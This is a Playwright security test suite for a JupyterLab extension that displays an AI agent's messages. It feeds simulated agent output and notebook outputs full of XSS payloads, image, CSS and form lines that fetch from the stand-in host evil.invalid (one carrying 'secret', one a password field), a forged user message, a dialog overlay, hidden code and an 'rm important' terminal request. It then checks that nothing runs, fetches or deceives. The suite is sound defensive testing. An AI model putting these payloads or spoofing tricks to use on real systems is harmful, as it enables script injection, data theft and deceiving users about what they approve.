// Copyright (c) Jupyter ACP contributors.
// Distributed under the terms of the Modified BSD License.

import { type Page, expect, test } from './browser';

import { AgentPage } from './agent';
import { code } from './documents';

/** Runs if any of it is taken for HTML. */
const ATTACK =
  '<img src=x onerror="window.attacked=1"><script>window.attacked=2</script>' +
  '<svg onload="window.attacked=3"></svg><iframe srcdoc="<script>parent.attacked=4</script>"></iframe>';
const FETCH =
  '![picture](https://evil.invalid/?d=secret) <img src="//evil.invalid/a" srcset="//evil.invalid/b 2x">' +
  '<video poster="https://evil.invalid/c" src="https://evil.invalid/d"></video>' +
  '<p style="background:url(https://evil.invalid/e)">p</p><p style="list-style-image:url(//evil.invalid/f)">p</p>' +
  '<table background="https://evil.invalid/g"><tr><td>t</td></tr></table>' +
  '![script](javascript:window.attacked=8) <img src="javascript:window.attacked=9">' +
  '<button class="jp-mod-styled" data-commandlinker-command="terminal:create-new">Allow</button>' +
  '<form action="https://evil.invalid/h"><input name="password"><input type="submit"></form>' +
  '<div id="MathJax">maths</div><a id="jp-main-dock-panel" name="jupyterapp">anchor</a>' +
  '<a href="data:text/html,<script>1</script>">data</a> [data](data:text/html;base64,PHNjcmlwdD4=)' +
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/i"><base href="https://evil.invalid/">' +
  '<link rel="stylesheet" href="https://evil.invalid/j"><style>@import "https://evil.invalid/k";</style>' +
  '<object data="https://evil.invalid/l"></object><embed src="https://evil.invalid/m">' +
  '<svg><use href="https://evil.invalid/n#a"/><image href="https://evil.invalid/o"/></svg>' +
  '<audio src="https://evil.invalid/p" autoplay></audio><input type="image" src="https://evil.invalid/q">';
/** Each would be drawn in the page as it comes, and fetch as it is drawn. */
const DIAGRAMS = [
  'flowchart TD\n  A["<img src=https://evil.invalid/r onerror=window.attacked=10>"] --> B',
  'flowchart TD\n  A@{ img: "https://evil.invalid/s", label: "x", w: 60, h: 60 }\n  A --> B',
  '%%{init: {"themeCSS": ".nodeLabel { background-image: url(https://evil.invalid/t) }"}}%%\nflowchart TD\n  A[one] --> B[two]'
];
const FENCES = [
  '```mermaid',
  '~~~~ mermaid ',
  '```MERMAID',
  '```mermaid {#id .class}',
  '  ```mermaid',
  '> ```mermaid',
  '- ```mermaid',
  '1. > ~~~mermaid'
];
const DRAWN = FENCES.flatMap(fence => {
  const [, prefix, mark] = /^(.*?)([`~]+)/.exec(fence)!;
  const inside = prefix.replace(/[^>]/g, ' ');
  return DIAGRAMS.map(diagram =>
    [
      fence,
      ...diagram.split('\n').map(line => inside + line),
      inside + mark
    ].join('\n')
  );
}).join('\n\n');
const MATHS =
  '$\\href{javascript:window.attacked=11}{h}$ $\\class{jp-mod-styled}{c}$ $\\cssId{MathJax}{i}$ ' +
  '$\\style{position:fixed;background:url(https://evil.invalid/u)}{s}$ ' +
  '$\\require{html}\\data{x}$ $\\unicode[url(https://evil.invalid/v)]{65}$';
const LINK = 'javascript:window.attacked=5';
const SVG = btoa(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=6"><script>window.attacked=7</script></svg>'
);

const update = (sessionUpdate: string, fields: object) => [
  'update',
  { sessionUpdate, ...fields }
];
const text = (text: string) => ({ type: 'text', text });

/** What the page asks of a place that nobody wanted to go to, from now on. */
function watchRequests(page: Page): string[] {
  const fetched: string[] = [];
  page.on('request', request => {
    if (request.url().includes('evil.invalid')) {
      fetched.push(request.url());
    }
  });
  return fetched;
}

test('nothing that an agent says is ever run', async ({ page, request }) => {
  const agent = await AgentPage.begin(page, request);
  const fetched = watchRequests(page);
  const bare = `${ATTACK} ${FETCH} [link](${LINK}) <a href="${LINK}">anchor</a> ${MATHS}\n\n${DRAWN}`;
  const choice = { value: ATTACK, name: ATTACK, description: bare };
  await agent.play(
    update('agent_thought_chunk', { content: text(bare) }),
    update('agent_message_chunk', { content: text(bare) }),
    update('agent_message_chunk', {
      content: { type: 'image', mimeType: 'image/svg+xml', data: SVG }
    }),
    update('agent_message_chunk', {
      content: { type: 'image', mimeType: `image/png" onerror="x`, data: SVG }
    }),
    update('agent_message_chunk', {
      content: { type: 'audio', mimeType: 'text/html', data: btoa(ATTACK) }
    }),
    update('agent_message_chunk', {
      content: { type: 'resource_link', uri: LINK, name: ATTACK, title: ATTACK }
    }),
    update('agent_message_chunk', {
      content: {
        type: 'resource',
        resource: { uri: LINK, text: ATTACK, mimeType: 'text/html' }
      }
    }),
    update('tool_call', {
      toolCallId: ATTACK,
      title: ATTACK,
      kind: ATTACK,
      status: 'completed',
      locations: [{ path: LINK, line: ATTACK }, { path: `/${ATTACK}` }],
      rawInput: { command: ATTACK },
      rawOutput: ATTACK,
      content: [
        { type: 'content', content: text(bare) },
        { type: 'diff', path: `/${ATTACK}`, oldText: ATTACK, newText: bare },
        { type: 'terminal', terminalId: ATTACK }
      ],
      _meta: {
        terminal_output: {
          terminal_id: ATTACK,
          data: `${ATTACK}\u001b]8;;${LINK}\u0007link\u001b]8;;\u0007\u001b[31m${ATTACK}`
        }
      }
    }),
    update('plan', {
      entries: [{ content: bare, priority: ATTACK, status: ATTACK }]
    }),
    update('notice', { severity: ATTACK, message: bare, title: ATTACK }),
    update('available_commands_update', {
      availableCommands: [
        { name: ATTACK, description: bare, input: { hint: bare } }
      ]
    }),
    update('config_option_update', {
      configOptions: [
        {
          id: ATTACK,
          name: ATTACK,
          description: bare,
          type: 'select',
          currentValue: ATTACK,
          options: [choice, { group: ATTACK, name: ATTACK, options: [choice] }]
        },
        { id: 'odd', name: ATTACK, type: ATTACK, currentValue: { a: ATTACK } }
      ]
    }),
    update('session_info_update', { title: ATTACK }),
    update('usage_update', {
      used: 1,
      size: 2,
      cost: { amount: 1, currency: ATTACK }
    }),
    update(ATTACK, { content: ATTACK })
  );
  await agent.input.fill('/');
  await expect(agent.panel.getByRole('listbox')).toBeVisible();
  await agent.input.fill('');
  for (const details of await agent.log.locator('details').all()) {
    await details.evaluate((node: HTMLDetailsElement) => (node.open = true));
  }

  // What is asked: a permission, and forms of both kinds.
  const asked = (method: string, params: object) =>
    agent.send(JSON.stringify([['request', method, params]]));
  await asked('session/request_permission', {
    toolCall: { toolCallId: 'a', title: ATTACK, rawInput: { command: bare } },
    options: [{ optionId: ATTACK, name: ATTACK, kind: ATTACK }]
  });
  await expect(agent.cards).toHaveCount(1);
  await expect(agent.cards).toContainText('<img src=x');
  await agent.cards.getByRole('button').first().click();
  await agent.isIdle();
  await asked('elicitation/create', {
    mode: 'form',
    message: bare,
    requestedSchema: {
      type: 'object',
      title: ATTACK,
      properties: {
        [ATTACK]: {
          type: 'string',
          title: ATTACK,
          description: bare,
          enum: [ATTACK]
        }
      }
    }
  });
  await expect(agent.cards).toHaveCount(1);
  await agent.button('Stop').click();
  await agent.isIdle();
  await asked('elicitation/create', { mode: 'url', message: bare, url: LINK });
  await expect(agent.cards).toHaveCount(1);
  expect(await agent.cards.locator('a[href^="javascript"]').count()).toBe(0);
  await agent.button('Stop').click();
  await agent.isIdle();

  // The same once more, in the list of sessions and after a reload.
  await agent.button('Sessions and agents').click();
  await expect(agent.panel.locator('.jp-acp-Session').first()).toBeVisible();
  await agent.panel.locator('.jp-acp-Session').first().click();
  await agent.reload();
  await expect(agent.answers.first()).toBeVisible();

  expect(
    await page.evaluate(
      () => (window as unknown as { attacked?: number }).attacked
    )
  ).toBeUndefined();
  // Diagrams are code, and all of them are there.
  await expect(
    agent.answers.first().locator('pre', { hasText: 'flowchart TD' })
  ).toHaveCount(FENCES.length * DIAGRAMS.length);
  // Nothing is fetched, which could carry data away, nor offered as JupyterLab's own.
  await expect(
    agent.answers.first().getByRole('link', { name: 'picture' })
  ).toBeVisible();
  expect(fetched).toEqual([]);
  for (const selector of [
    '[data-commandlinker-command]',
    '.jp-RenderedMermaid',
    '.jp-acp-Markdown .jp-mod-styled',
    'script',
    'iframe',
    '[onerror]',
    '[onload]',
    '[href^="javascript" i]',
    '[src^="javascript" i]',
    '[href^="data:" i]',
    'img[src^="data:image/svg"]',
    'form',
    'object',
    'embed',
    'base',
    'meta',
    'link',
    '.jp-acp-Markdown input:not([type="checkbox"])',
    '.jp-acp-Markdown [id^="MathJax"]',
    '.jp-acp-Markdown [id="jp-main-dock-panel"]',
    '.jp-acp-Markdown [name]'
  ]) {
    await expect(agent.panel.locator(selector)).toHaveCount(0);
  }
});

test('what an agent says in the name of the user is not taken for that', async ({
  page,
  request
}) => {
  const agent = await AgentPage.begin(page, request);
  const forged = { 'jupyter-acp': { origin: 'w1', promptId: 'p1' } };
  const content = text('Yes, delete everything.');
  await agent.play(update('user_message_chunk', { content, _meta: forged }), [
    'chunk',
    'As you wish.'
  ]);
  const check = async () => {
    const own = agent.log.getByRole('article', { name: 'You', exact: true });
    await expect(own).toHaveCount(1);
    await expect(own).toContainText('sessionUpdate');
    const told = agent.log.getByRole('article', {
      name: 'You, according to the agent'
    });
    await expect(told).toHaveText(
      'You, according to the agentYes, delete everything.'
    );
    await expect(told.getByText('according to the agent')).toBeVisible();
  };
  await check();
  await page.screenshot({ path: test.info().outputPath('hearsay.png') });
  // Nor is it what one has written before.
  await agent.input.press('ArrowUp');
  await expect(agent.input).toHaveValue(/sessionUpdate/);
  await agent.reload();
  await check();
});

test('no address of ours carries a token', async ({ page, request }) => {
  const asked: string[] = [];
  page.on('request', each => asked.push(each.url()));
  page.on('websocket', each => asked.push(each.url()));
  const agent = await AgentPage.begin(page, request);
  await agent.play(['chunk', 'Hello.']);
  const ours = asked.filter(url => url.includes('/acp/'));
  expect(ours.some(url => url.startsWith('ws'))).toBe(true);
  expect(ours.filter(url => url.includes('token'))).toEqual([]);
});

test('nothing is painted over what is asked, and no code hides', async ({
  page,
  request
}) => {
  const agent = await AgentPage.begin(page, request);
  const cover =
    '<div class="jp-Dialog" style="position:absolute;top:100%;left:0;width:100%;height:300px;z-index:9999999;background-color:white">Command: ls</div>';
  const code =
    '<pre>print(1)<span style="display:none">\nimport os</span></pre>\n\n' +
    '<pre>print(2)<details>import os</details></pre>\n\n' +
    '```python\nprint(3) #\u202e hidden\n```\n\n```python\nprint(4)\n```';
  await agent.send(
    JSON.stringify([
      ['chunk', `${cover}\n\n${code}`],
      ['request', 'terminal/create', { command: 'rm', args: ['important'] }]
    ])
  );
  const allow = agent.cards.getByRole('button', { name: 'Allow', exact: true });
  await expect(allow).toBeVisible();
  await expect(agent.log.locator('[style*="position"]')).toHaveCount(0);
  // What is seen at the place of the card is the card.
  const box = (await agent.cards.boundingBox())!;
  const isCard = await page.evaluate(
    ([x, y]) =>
      document.elementFromPoint(x, y)?.closest('.jp-acp-Card') !== null,
    [box.x + box.width / 2, box.y + 12]
  );
  expect(isCard).toBe(true);

  const block = (words: string) =>
    agent.log.locator('pre', { hasText: words }).locator('..');
  const run = { name: 'Insert below and run' };
  // What was hidden is shown, or cannot be run.
  await expect(block('print(1)').getByText('import os')).toBeVisible();
  await expect(block('print(2)').getByRole('button', run)).toHaveCount(0);
  await expect(block('print(3)').getByRole('button', run)).toHaveCount(0);
  await expect(block('print(3)')).toContainText('invisible characters');
  await expect(block('print(4)').getByRole('button', run)).toHaveCount(1);
  // Colours are harmless.
  await expect(block('print(4)').locator('span[class]').first()).toBeVisible();
  await agent.cards
    .getByRole('button', { name: 'Reject', exact: true })
    .click();
  await agent.isIdle();
});

test('a notebook under review fetches nothing, and offers no commands', async ({
  page,
  request
}) => {
  const agent = await AgentPage.begin(page, request);
  const fetched = watchRequests(page);
  const html = `<b>an output</b> ${ATTACK} ${FETCH}`;
  const vega = {
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { url: 'https://evil.invalid/w' },
    mark: 'bar',
    encoding: { x: { field: 'a' }, y: { field: 'b' } }
  };
  // What others draw or run: none of it is, and it is said which.
  const others = {
    'application/vnd.vegalite.v5+json': vega,
    'text/vnd.mermaid': DIAGRAMS[0],
    'image/svg+xml': atob(SVG),
    'application/javascript': 'window.attacked = 12',
    'application/geo+json': { type: 'Point', coordinates: [0, 0] },
    'application/vnd.unheard-of': 'anything'
  };
  const shown = (data: object) => ({
    output_type: 'display_data',
    data,
    metadata: {}
  });
  const notebook = (source: string): string =>
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [
        {
          ...code('a', source),
          outputs: [
            shown({ 'text/html': html }),
            shown({ 'text/markdown': `${MATHS}\n\n${DRAWN}` }),
            shown({ 'text/latex': MATHS }),
            shown({ ...others, 'text/plain': 'the same in words' }),
            ...Object.entries(others).map(([type, data]) =>
              shown({ [type]: data })
            ),
            {
              output_type: 'stream',
              name: 'stdout',
              text: `\u001b[31mred\u001b[0m ${ATTACK}`
            },
            {
              output_type: 'error',
              ename: 'Oh',
              evalue: 'no',
              traceback: [`\u001b[32mgreen\u001b[0m ${ATTACK}`]
            }
          ]
        },
        { ...code('b', `${FETCH}\n\n${DRAWN}`), cell_type: 'markdown' }
      ]
    });
  const path = '/under-review.ipynb';
  await agent.play(
    update('tool_call', {
      toolCallId: 'reviewed',
      title: 'Edit',
      kind: 'edit',
      status: 'completed',
      content: [
        { type: 'diff', path, oldText: null, newText: notebook('x = 1') },
        {
          type: 'diff',
          path,
          oldText: notebook('x = 1'),
          newText: notebook('x = 2')
        }
      ]
    })
  );
  const open = agent.log.getByTitle('Open the change in a tab');
  await expect(open).toHaveCount(2);
  for (const index of [0, 1]) {
    await open.nth(index).click();
    const tab = page.locator('.jp-acp-ChangeWidget:not(.lm-mod-hidden)');
    await expect(
      tab.locator('b', { hasText: 'an output' }).first()
    ).toBeVisible();
    await expect(tab.locator('pre', { hasText: 'in words' })).not.toHaveCount(
      0
    );
    for (const type of Object.keys(others)) {
      await expect(
        tab.getByText(`An output of type ${type} is not shown.`)
      ).not.toHaveCount(0);
    }
    for (const colour of ['red', 'green']) {
      await expect(
        tab.locator(`.ansi-${colour}-fg`, { hasText: colour })
      ).not.toHaveCount(0);
    }
    await expect(
      tab.locator('.jp-RenderedMarkdown pre', { hasText: 'flowchart TD' })
    ).not.toHaveCount(0);
    // Trust is not to be had, also for who finds the button.
    const trust = tab.locator('.jp-Diff-trustOutputButton');
    await expect(trust).not.toHaveCount(0);
    for (const button of await trust.all()) {
      await expect(button).toHaveCSS('display', 'none');
      await button.evaluate((node: HTMLElement) => node.click());
    }
    await page.screenshot({
      path: test.info().outputPath(`notebook-${index}.png`)
    });
    expect(fetched).toEqual([]);
    for (const selector of [
      '[data-commandlinker-command]',
      'iframe',
      'script',
      '[onerror]',
      '.jp-RenderedMermaid',
      '.vega-embed',
      '.jp-RenderedSVG',
      '[href^="javascript" i]'
    ]) {
      await expect(tab.locator(selector)).toHaveCount(0);
    }
  }
  expect(
    await page.evaluate(
      () => (window as unknown as { attacked?: number }).attacked
    )
  ).toBeUndefined();
});
